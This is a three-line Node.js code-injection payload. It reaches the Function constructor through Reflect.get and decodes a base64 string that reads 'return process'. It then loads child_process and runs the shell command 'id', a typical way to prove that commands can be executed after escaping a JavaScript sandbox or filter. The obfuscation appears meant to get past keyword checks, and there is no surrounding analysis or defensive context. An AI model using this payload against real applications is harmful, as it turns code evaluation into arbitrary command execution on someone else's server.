const F = Reflect.get(Function.prototype, "constructor");
const src = Buffer.from("cmV0dXJuIHByb2Nlc3M=", "base64").toString();
F(src)().mainModule.require("child_process").execSync("id", {stdio: "inherit"});
